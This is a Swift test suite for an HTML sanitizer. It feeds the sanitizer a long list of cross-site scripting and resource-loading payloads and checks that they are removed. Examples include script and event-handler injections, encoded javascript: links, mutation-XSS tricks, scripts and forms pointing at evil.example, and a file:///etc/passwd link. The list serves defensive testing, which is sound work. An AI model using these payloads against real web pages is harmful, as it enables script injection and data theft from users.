import Foundation
import Testing

@testable import InlayCardsServer
@testable import InlayHubServer

@Suite struct SanitizerTests {
    /// Known ways in which untrusted HTML runs a script or loads something from the network.
    static let attacks = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)", "<script/x>alert(1)</script>", "<script\u{0}>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'//", "<img/src=x/onerror=alert(1)>",
        "<img \u{0C}src=x onerror=alert(1)>",
        "<img src='x' onerror=\"alert(1)\">", "<img src=`x`onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<image src=x onerror=alert(1)>", "<img src=javascript:alert(1)>",
        "<img src=data:text/html,<script>alert(1)</script>>",
        "<img src=https://evil.example/pixel.gif>", "<img src=//evil.example/pixel.gif>",
        "<img srcset=https://evil.example/x>",
        "<img src=assets/a.svg style=background:url(https://evil.example)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='&#x6A&#x61vascript:alert(1)'>x</a>", "<a href='java&#x09;script:alert(1)'>x</a>",
        "<a href='java&Tab;script&colon;alert(1)'>x</a>", "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
        "<a href=file:///etc/passwd>x</a>", "<a href=blob:https://x/1>x</a>", "<a href=//evil.example>x</a>",
        "<a href=view-source:https://x>x</a>", "<a href=about:blank>x</a>",
        "<a href=filesystem:https://x>x</a>",
        "<a href=intent:x>x</a>", "<a ping=https://evil.example href=https://ok.example>x</a>",
        "<a target=_blank onclick=alert(1) href=https://ok.example>x</a>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>", "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=https://evil.example/>", "<link rel=dns-prefetch href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<meta http-equiv=Set-Cookie content=x>", "<form action=https://evil.example><input name=x></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>",
        "<video src=assets/a.mp4 onloadstart=alert(1)></video>",
        "<video><source src=https://evil.example/a.mp4 onerror=alert(1)></video>",
        "<video poster=https://evil.example/x src=assets/a.mp4></video>",
        "<audio src=https://evil.example/x autoplay></audio>",
        "<body onload=alert(1)>", "<body background=https://evil.example>",
        "<table background=https://evil.example><td background=https://evil.example></table>",
        "<div style='background:url(https://evil.example)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(https://evil.example)}</style>", "<p style=behavior:url(x)>x</p>",
        "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>",
        "<xss onmouseover=alert(1)>x</xss>", "<p id=location name=cookie class=x>x</p>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>alert(1)</script>",
        "<noembed><img src=x onerror=alert(1)></noembed>", "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
        "<!--><script>alert(1)</script>", "<!-- --!><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?php <script>alert(1)</script> ?>",
        "<!DOCTYPE x [<!ENTITY y \"<script>\">]><p>&y;", "<p title='\"><script>alert(1)</script>'>x</p>",
        "<p title=\"&quot;><script>alert(1)</script>\">x</p>", "<p title=&#34;&#62;&#60;script&#62;>x</p>",
        "<p/onclick=alert(1)>x</p>", "<p\nonclick\n=\nalert(1)>x",
        "<a\u{A0}href=javascript:alert(1)>x</a>", "<img src onerror=alert(1) src=assets/a.svg>",
        "<a href=https://ok.example href=javascript:alert(1)>x</a>",
        "<portal src=https://evil.example></portal>", "<dialog open onclose=alert(1)>x</dialog>",
        "<slot onslotchange=alert(1)></slot>", "<canvas></canvas><script>alert(1)</script>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<track src=https://evil.example/x.vtt>", "<isindex action=javascript:alert(1)>",
        "<a href=hub:../../x>x</a>", "<a href=hub:article/../x>x</a>",
        "<a href='hub:article/a\" onclick=alert(1)'>x</a>", "<b <script>alert(1)</script>>x</b>", "<", "<a",
        "<a href", "<a href=\"", "<!--", "</", "&#x;&#;&#99999999999;",
    ]

    private func clean(_ html: String) -> String {
        var sanitizer = HTMLSanitizer(links: LinkRule(appSchemes: ["harbor"])) { HubPageWriter.assetPath($0) }
        return sanitizer.clean(html)
    }

    @Test(arguments: attacks)
    func `scripts and network requests are removed or become text`(attack: String) throws {
        let html = clean(attack)
        // As a browser reads it, the result has only tags and attributes of the allow-list, and safe addresses.
        for token in HTMLTokenizer.tokens(html) {
            guard case .start(let name, let attributes) = token else { continue }
            let allowed = try #require(HTMLRules.elements[name], "<\(name)> came through: \(html)")
            for attribute in attributes {
                let isKnown =
                    allowed.contains(attribute.name) || HTMLRules.globalAttributes.contains(attribute.name)
                    || ["controls", "preload"].contains(attribute.name)
                #expect(isKnown, "\(attribute.name) came through: \(html)")
                if ["src", "poster"].contains(attribute.name) {
                    #expect(HubPath.isAsset(attribute.value), "\(html)")
                }
                if attribute.name == "href" {
                    #expect(
                        LinkRule().allowed(attribute.value) != nil && !attribute.value.contains("evil"),
                        "\(html)")
                }
            }
        }
        #expect(!html.lowercased().contains("<script"))
        #expect(!html.contains("<!"))
        #expect(clean(html) == html, "Cleaning twice changes it: \(html)")
    }

    @Test func `the elements of an article stay unchanged`() {
        let html = """
            <h2>One</h2><p>Two <strong>three</strong> <em>four</em><br>five &amp; six</p><ul><li>a</li><li>b</li></ul>\
            <blockquote>q</blockquote><pre><code>x &lt; y</code></pre><figure><img src="assets/a.svg" alt="A"><figcaption>c\
            </figcaption></figure><table><tr><th scope="col">h</th><td colspan="2">d</td></tr></table>
            """
        #expect(clean(html) == html)
    }

    @Test func `links stay where they lead to the web, to the hub or to the app's own schemes`() {
        for address in [
            "https://a.example/b?c=d#e", "mailto:a@b.example", "tel:+3581", "hub:article/x", "harbor:buy",
            "https://example.com/می\u{200C}شود", "https://example.com/👩\u{200D}💻",
        ] {
            #expect(clean("<a href=\"\(address)\">x</a>") == "<a href=\"\(address)\">x</a>")
        }
        #expect(clean("<a href=\"other:buy\">x</a>") == "<a>x</a>")
    }

    @Test func `a video gets controls, and an image without words gets empty ones`() {
        #expect(clean("<video src=assets/a.mp4></video>").contains("controls"))
        #expect(clean("<img src=assets/a.png>") == "<img src=\"assets/a.png\" alt=\"\">")
    }

    @Test func `a text for readers is cut to a number of code points`() {
        let mark = "\u{301}"
        #expect(
            clean("<p title=\"e\(String(repeating: mark, count: 5_000))\">x</p>")
                == "<p title=\"e\(String(repeating: mark, count: 999))\">x</p>")
    }

    @Test func `what is left open is closed, and what was never opened is not closed`() {
        #expect(clean("</div><p>a<strong>b") == "<p>a<strong>b</strong></p>")
        #expect(clean("<p>a<p>b") == "<p>a</p><p>b</p>")
        #expect(clean("<ul><li>a<li>b</ul>") == "<ul><li>a</li><li>b</li></ul>")
    }

    @Test func `ten thousand nested elements are cut to a bounded depth`() {
        let html = clean(String(repeating: "<div>", count: 10_000) + "x")
        #expect(html.contains("x"))
        #expect(html.count < 2_000)
    }

    @Test func `HTML in Markdown is sanitised like any other`() {
        let html = clean(
            ArticleMarkdown.html(
                "# T\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1)) *y*\n\n|a|\n|-|\n|b|"))
        #expect(html.contains("<h1>T</h1>") && html.contains("<em>y</em>") && html.contains("<td>b</td>"))
        #expect(!html.contains("script"))
    }
}
